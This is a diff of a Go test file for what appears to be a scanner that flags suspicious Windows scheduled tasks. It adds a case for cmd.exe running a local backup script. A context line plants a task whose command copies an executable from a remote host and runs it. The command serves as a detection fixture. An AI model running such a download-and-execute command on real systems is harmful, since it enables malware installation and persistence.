@@ -110,6 +110,10 @@ func TestTasks(t *testing.T) {
 			task{path: `\Sync`, id: "{AAAAAAAA-0000-0000-0000-000000000006}", index: 3,
 				actions: exec(`cmd.exe`, `/c copy \\203.0.113.7\s\a.exe %TEMP%\a.exe & %TEMP%\a.exe`)}.plant(sw)
 		}, report.High, "tasks.exec", ""},
+		{"cmd /c in a task outside Microsoft's folder", func(sw *hivetest.Key) {
+			task{path: `\Backup`, id: "{AAAAAAAA-0000-0000-0000-000000000009}", index: 3,
+				actions: exec(`%windir%\system32\cmd.exe`, `/c C:\Scripts\backup.cmd`)}.plant(sw)
+		}, report.Medium, "tasks.exec", "do not run cmd.exe"},
 		{"program in ProgramData", func(sw *hivetest.Key) {
 			task{path: `\Updater`, id: "{AAAAAAAA-0000-0000-0000-000000000007}", index: 3,
 				actions: exec(`C:\ProgramData\upd\upd.exe`, ``)}.plant(sw)
